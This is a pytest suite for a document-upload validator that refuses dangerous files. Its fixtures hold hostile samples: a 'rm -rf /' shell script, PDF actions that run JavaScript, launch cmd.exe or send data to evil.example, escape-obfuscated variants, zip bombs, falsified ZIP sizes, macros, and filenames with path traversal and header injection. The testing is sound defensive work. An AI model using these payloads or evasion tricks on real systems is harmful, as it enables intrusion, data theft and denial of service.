"""What somebody might try: each is refused with its reason and a way round, and nothing of it is stored."""

import io
import struct
import zipfile
import zlib

import pytest

from app.documents import package, sniff
from tests.documents.files import (
    DOCX_TYPE,
    EXECUTABLE,
    GOOD,
    JPEG,
    ODT_TYPE,
    PNG,
    TEXT,
    docx,
    object_stream,
    odt,
    pdf,
    stream,
)
from tests.documents.files import package as zipped
from tests.documents.test_documents import get, on_the_shelf, send
from tests.support.installation import Installation

SCRIPT = b"5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj"


def refused(here: Installation, name: str, content: bytes) -> tuple[int, str]:
    """Send a file; it must not be kept. The status and what was said."""
    case, caseworker = here.open("2026-01-05"), here.actor("caseworker")
    answer = send(here, caseworker, case, name, content)
    assert answer.headers["content-type"] == "application/problem+json"
    assert on_the_shelf(here) == []
    assert get(here, caseworker, case).json()["items"] == []
    return answer.status_code, answer.json()["detail"]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", EXECUTABLE),
        ("photo.jpg", EXECUTABLE),
        ("note.txt", EXECUTABLE),
        ("letter.docx", EXECUTABLE),
        ("tool.exe", EXECUTABLE),
        ("tool.txt", b"\x7fELF\x02\x01\x01" + b"\x00" * 60),
        ("tool.txt", b"#!/bin/sh\nrm -rf /\n"),
        ("page.html", b"<html><script>alert(1)</script></html>"),
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("sheet.xlsx", zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"})),
        ("letter.docx", zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"})),
        ("letter.docx", zipped({"readme.txt": b"x"})),
        ("letter.odt", zipped({"content.xml": b"x"}, first=("mimetype", b"application/vnd.oasis.opendocument.calc"))),
        ("letter.docx", b"PK\x03\x04" + b"\x00" * 100),
        ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
        ("picture.gif", b"GIF89a" + b"\x00" * 20),
        ("note.txt", b"words\x00and\x01controls"),
        ("file", b"no ending"),
    ],
)
def test_what_is_none_of_the_kinds_taken_is_415(embedded, name, content):
    status, said = refused(embedded, name, content)
    assert status == 415
    assert "Save it as a PDF" in said


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", PNG),
        ("scan.png", JPEG),
        ("scan.jpg", PNG),
        ("letter.docx", odt()),
        ("letter.odt", docx()),
        ("report.exe", pdf()),
        ("note.txt", pdf()),
        ("report.pdf.exe", pdf()),
        ("report", pdf()),
        ("report.pdf", docx()),
        ("archive.zip", docx()),
    ],
)
def test_a_name_that_says_another_kind_than_the_bytes_is_415(embedded, name, content):
    status, said = refused(embedded, name, content)
    assert status == 415
    assert "its name" in said


PDFS = {
    "a script": pdf(SCRIPT),
    "a script in the catalogue's names": pdf(b"<< /Names << /JavaScript 7 0 R >> >>"),
    "a script named by its escapes": pdf(b"5 0 obj\n<< /S /J#61va#53cript /J#53 (x) >>\nendobj"),
    "a script in an object stream": pdf(object_stream(b"<< /S /JavaScript /JS (x) >>")),
    "a script in an object stream named by its escapes": pdf(
        object_stream(b"<< /S /J#61vaScript >>").replace(b"/ObjStm", b"/Obj#53tm")
    ),
    "a script in a stream that does not say what it is": pdf(
        object_stream(b"<< /S /JavaScript >>").replace(b"/ObjStm", b"/Foo")
    ),
    "a script behind a long dictionary": pdf(object_stream(b"<< /S /JavaScript >>", b" " * 5000)),
    "a script behind a comment": pdf(
        stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"%x\n" * 3 + b"5 0 << /S /JavaScript >>"))
    ),
    "a script after a long beginning": pdf(
        stream(b"/Type /Foo", zlib.compress(b"5 0 6 9 " + b" " * 300_000 + b"/JavaScript 1"))
    ),
    "a script alone": pdf(b"5 0 obj\n<< /S /Rendition /JS (x) >>\nendobj"),
    "a program to launch": pdf(b"5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"),
    "a form that sends itself": pdf(b"5 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj"),
    "a form that fetches what it holds": pdf(b"5 0 obj\n<< /S /ImportData /F (x.fdf) >>\nendobj"),
    "a leap into a file inside": pdf(b"5 0 obj\n<< /S /GoToE /D (x) >>\nendobj"),
    "a leap into a file elsewhere": pdf(object_stream(b"<< /S /GoToR /F (//evil.example/x.pdf) >>")),
    "an address opened with the file": pdf(b"<< /OpenAction << /S /URI /URI (http://evil.example) >> >>"),
    "an address opened with the file, kept apart": pdf(
        b"<< /OpenAction 5 0 R >>\n5 0 obj\n<< /Type /Action /S/URI /URI (http://evil.example) >>\nendobj"
    ),
    "an address opened with the file, from an object stream": pdf(
        b"<< /OpenAction 5 0 R >>", object_stream(b"<< /URI (http://evil.example) /S % x\n/URI >>")
    ),
    "an address opened after a page": pdf(
        b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example) >> >> >>"
    ),
    "an address opened with a page": pdf(b"<< /Type /Page /AA << /O << /S /URI /URI (http://evil.example) >> >> >>"),
    "a file inside": pdf(b"5 0 obj\n<< /Type /EmbeddedFile >>\nendobj"),
    "files inside": pdf(b"<< /Names << /EmbeddedFiles 7 0 R >> >>"),
    "a form with scripts": pdf(b"<< /AcroForm << /XFA 7 0 R >> >>"),
    "a lock": pdf(b"<< /Encrypt 7 0 R >>"),
    "objects packed in another way": pdf(
        object_stream(b"<< >>").replace(b"/FlateDecode", b"/LZWDecode").replace(b"x\x9c", b"\x80\x0b")
    ),
    "objects packed with a predictor": pdf(object_stream(b"<< >>", b"/DecodeParms << /Predictor 12 >>")),
    "objects that unpack to nothing at all": pdf(stream(b"/Type /ObjStm", b"")),
    "a type that stands elsewhere": pdf(stream(b"/Type 8 0 R /Filter /LZWDecode", b"\x80\x0b")),
    "a bomb": pdf(stream(b"/Type /ObjStm", zlib.compress(b"5 0 " + b" " * 201_000_000, 9))),
}


@pytest.mark.parametrize("content", PDFS.values(), ids=PDFS)
def test_a_pdf_that_carries_more_than_pages_is_422(embedded, content):
    status, said = refused(embedded, "report.pdf", content)
    assert status == 422
    assert "Print it to a new PDF" in said


def test_an_ordinary_pdf_passes(embedded):
    case, caseworker = embedded.open("2026-01-05"), embedded.actor("caseworker")
    ordinary = pdf(
        b"<< /OpenAction [3 0 R /FitH null] /Annots [<< /Subtype /Link /A << /S /URI /URI (https://x.example) >> >> 6 0 R] >>",
        b"6 0 obj\n<< /Subtype /Link /A 7 0 R >>\nendobj\n7 0 obj\n<< /S /URI /URI (mailto:x@x.example) >>\nendobj",
        object_stream(b"<< /Type /Font /BaseFont /JSans /Title (On /LaunchPad and JavaScript) >>"),
        stream(b"/Filter /FlateDecode", zlib.compress(b"BT /F1 12 Tf (about /JavaScript) Tj ET")),
        stream(b"/Filter /DCTDecode", b"\xff\xd8\xff/JS\x80\x90\xff\xd9"),
        stream(b"/Filter /FlateDecode", b"not deflated at all"),
    )
    answer = send(embedded, caseworker, case, "report.pdf", ordinary)
    assert answer.status_code == 201, answer.text


def test_a_pdf_that_opens_at_a_page_and_has_links_passes(embedded):
    """As LaTeX writes it: what is done on opening is an object of its own, and so might be anything."""
    case, caseworker = embedded.open("2026-01-05"), embedded.actor("caseworker")
    link = b"<< /Type /Annot /Subtype /Link /A<</Type/Action/S/URI/URI(https://www.gov.uk/send)>> >>"
    goes = b"<< /OpenAction 5 0 R >>\n5 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj"
    answer = send(embedded, caseworker, case, "report.pdf", pdf(goes, object_stream(link)))
    assert answer.status_code == 201, answer.text


def lying(content: bytes, part: str, size: int) -> bytes:
    """A package whose directory says of one part that it unpacks to so many bytes."""
    found = io.BytesIO(content)
    with zipfile.ZipFile(found) as made:
        info = made.getinfo(part)
    directory = content.index(b"PK\x01\x02")
    while content[directory + 46 : directory + 46 + len(part)] != part.encode():
        directory = content.index(b"PK\x01\x02", directory + 4)
    changed = bytearray(content)
    struct.pack_into("<I", changed, directory + 24, size)
    struct.pack_into("<I", changed, info.header_offset + 22, size)
    return bytes(changed)


ZEROS = b"\x00" * 12_000_000
PACKAGES = {
    "a bomb": docx(word__media__big=ZEROS * 2),
    "a bomb in an odt": odt(Pictures__big=ZEROS * 2),
    "a bomb that says it is small": lying(docx(word__media__big=ZEROS * 2), "word/media/big", 1000),
    "a part that says it is larger than any": lying(docx(), "word/document.xml", 0xFFFFFFF0),
    "too many parts": docx(**{f"word__p{n}": b"" for n in range(package.MOST_PARTS)}),
    "macros": docx(word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"),
    "macros in capitals, elsewhere": docx(customXml__VBAPROJECT_BIN=b"x").replace(b"VBAPROJECT_BIN", b"VBAPROJECT.BIN"),
    "a macro document by another name": docx(
        types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    ),
    "macros in an odt": odt(Basic__Standard__Module1=b"<script/>"),
    "scripts in an odt": odt(Scripts__python__x=b"import os"),
    "a damaged part": zipped({"word/document.xml": b"x"}, first=("[Content_Types].xml", b"<Types/>")).replace(
        b"<Types/>", b"<Typos/>"
    ),
}


@pytest.mark.parametrize("content", PACKAGES.values(), ids=PACKAGES)
def test_a_package_that_carries_more_than_text_is_422(embedded, content):
    name = "letter.odt" if ODT_TYPE.encode() in content else "letter.docx"
    status, said = refused(embedded, name, content)
    assert status == 422
    assert "Save it as a PDF" in said


def test_a_locked_package_is_422(embedded):
    locked = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        last = locked.rindex(signature)
        locked[last + offset] |= 1
    assert refused(embedded, "letter.docx", bytes(locked))[0] == 422


def test_a_document_that_packs_well_is_no_bomb(embedded):
    case, caseworker = embedded.open("2026-01-05"), embedded.actor("caseworker")
    table = b"<w:tbl>" + b"<w:tr><w:tc/></w:tr>" * 400_000 + b"</w:tbl>"
    answer = send(embedded, caseworker, case, "letter.docx", docx(word__table=table))
    assert answer.status_code == 201, answer.text


def test_an_empty_file_is_422(embedded):
    assert refused(embedded, "note.txt", b"") == (422, "file: the file is empty")


@pytest.mark.parametrize(("size", "status"), [(1_000_000, 201), (1_000_001, 413), (2_500_000, 413)])
def test_a_file_may_weigh_so_much_and_no_more(embedded, size, status):
    embedded.settings.documents_max_mb = 1
    case, caseworker = embedded.open("2026-01-05"), embedded.actor("caseworker")
    assert send(embedded, caseworker, case, "note.txt", b"x" * size).status_code == status
    assert len(on_the_shelf(embedded)) == (status == 201)


@pytest.mark.parametrize(
    ("sent", "kept", "plain"),
    [
        ("report.pdf", "report.pdf", "report.pdf"),
        ("C:\\Users\\sam\\Report 3.PDF", "Report 3.pdf", "Report 3.pdf"),
        ("../../etc/cron.pdf", "cron.pdf", "cron.pdf"),
        ("Zoë\u202efdp.exe.pdf", "Zoëfdp.exe.pdf", "Zo_fdp.exe.pdf"),
        ('a"; filename=b\r\nSet-Cookie: x.pdf', 'a"; filename=bSet-Cookie: x.pdf', "a__ filename_bSet-Cookie_ x.pdf"),
        (".pdf", "document.pdf", "document.pdf"),
        ("x" * 300 + ".pdf", "x" * 120 + ".pdf", "x" * 120 + ".pdf"),
        ("李.pdf", "李.pdf", "_.pdf"),
    ],
)
def test_a_name_misleads_nobody(embedded, sent, kept, plain):
    from urllib.parse import quote

    from app.documents.routes import attachment

    assert sniff.safe_name(sent) == kept
    assert attachment(kept) == f"attachment; filename=\"{plain}\"; filename*=UTF-8''{quote(kept, safe='')}"
    assert "\n" not in attachment(kept)


@pytest.mark.parametrize(
    "content",
    [TEXT, "Zoë".encode("cp1252"), "Zoë".encode("utf-16"), b"\xef\xbb\xbfwords", b"From: a letter", b"BM words"],
)
def test_plain_text_in_the_usual_encodings(content):
    assert sniff.media_type(content, "note.txt") == "text/plain"


@pytest.mark.parametrize("name", GOOD)
def test_the_kind_is_told_by_the_bytes(name):
    content, media_type = GOOD[name]
    assert sniff.media_type(content, name) == media_type


def test_the_sender_is_not_believed_about_the_kind(embedded):
    case, caseworker = embedded.open("2026-01-05"), embedded.actor("caseworker")
    with embedded.client(caseworker) as client:
        files = {"file": ("letter.docx", docx(), "text/html")}
        answer = client.post(f"/api/v1/cases/{case}/documents", files=files, data={"kind": "letter"})
    assert answer.json()["media_type"] == DOCX_TYPE
